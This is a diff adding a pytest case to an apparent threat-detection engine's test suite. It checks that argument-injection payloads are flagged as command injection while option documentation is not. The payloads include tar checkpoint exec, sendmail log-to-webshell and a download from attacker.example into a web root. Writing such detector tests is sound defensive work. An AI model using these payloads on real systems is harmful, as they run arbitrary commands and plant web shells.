@@ -379,6 +379,27 @@ def test_the_language_that_carries_the_payload_names_it(
     assert result["is_threat"] and result["attack_class"] == named
 
 
+@pytest.mark.parametrize(
+    ("value", "flagged"),
+    [
+        ("--checkpoint=1 --checkpoint-action=exec=sh shell.sh", True),
+        ("-o /var/www/html/s.php http://attacker.example/s.txt", True),
+        ("attacker@example.com -OQueueDirectory=/tmp -X/var/www/html/shell.php", True),
+        ("--use-compress-program='sh -c id'", True),
+        ("-o, --output <file>  write output to <file> instead of stdout", False),
+        ("add -o ./reports/summary.csv to keep the report", False),
+    ],
+)
+def test_options_injected_into_a_command(
+    engine: DetectionEngine, value: str, flagged: bool
+) -> None:
+    """Options that make a command run a program or write a server script at an absolute path
+    are command injection; an option's documentation and an ordinary output file are not."""
+    result = engine.detect(value)
+    assert result["is_threat"] is flagged
+    assert not flagged or result["attack_class"] == "cmdi"
+
+
 def test_documentation_showing_a_template_sum_reads_as_prose(engine: DetectionEngine) -> None:
     value = ("Angular interpolation uses double curly braces, so {{ 1 + 1 }} renders as 2 in "
              "the view.")
